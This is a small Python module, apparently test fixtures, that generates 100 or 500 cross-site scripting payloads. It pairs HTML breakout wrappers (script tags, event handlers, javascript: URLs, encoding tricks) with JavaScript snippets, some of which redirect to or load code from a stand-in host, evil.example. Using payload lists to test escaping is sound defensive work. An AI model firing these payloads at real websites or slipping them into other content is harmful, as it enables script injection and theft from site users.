"""Texts that would run in a page that did not escape them: a hundred, and five hundred for the thorough run."""

RUN = (
    *("alert(1)", "alert`1`", "self['ale'+'rt'](1)", "eval('al'+'ert(1)')", "top.alert(1)"),
    *("location='//evil.example'", "fetch('//evil.example')", "document.title=1", "setTimeout(alert)", "open()"),
)
MORE_RUN = (
    *("confirm(1)", "print()", "import('//evil.example')", "throw onerror=alert,1", "[1].map(alert)"),
    *("Function('alert(1)')()", "alert&#40;1&#41;", "\\u0061lert(1)", "parent['alert'](1)", "self.sendBeacon('/')"),
)
WRAPPED = (
    "<script>{}</script>",
    "\"><img src=x onerror={}>",
    "'><svg onload={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "{{{{ {} }}}} {{% {} %}}",
    "<a href=\"javascript:{}\">x</a>",
    "--><body onload={}>",
    "\" autofocus onfocus={} x=\"",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
)  # fmt: skip
MORE_WRAPPED = (
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<object data=\"javascript:{}\">",
    "<ScRiPt/x>{}</sCrIpT>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<form action=\"javascript:{}\"><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "</option></select><img src=x onerror={}>",
    "<a href=\"java&#9;script:{}\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "]]><script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "javascript:{}",
    "<embed src=\"data:text/html,<script>{}</script>\">",
)  # fmt: skip

PAYLOADS = tuple(wrapped.format(run, run) for wrapped in WRAPPED for run in RUN)
MANY = tuple(wrapped.format(run, run) for wrapped in (*WRAPPED, *MORE_WRAPPED) for run in (*RUN, *MORE_RUN))
assert (len(set(PAYLOADS)), len(set(MANY))) == (100, 500)
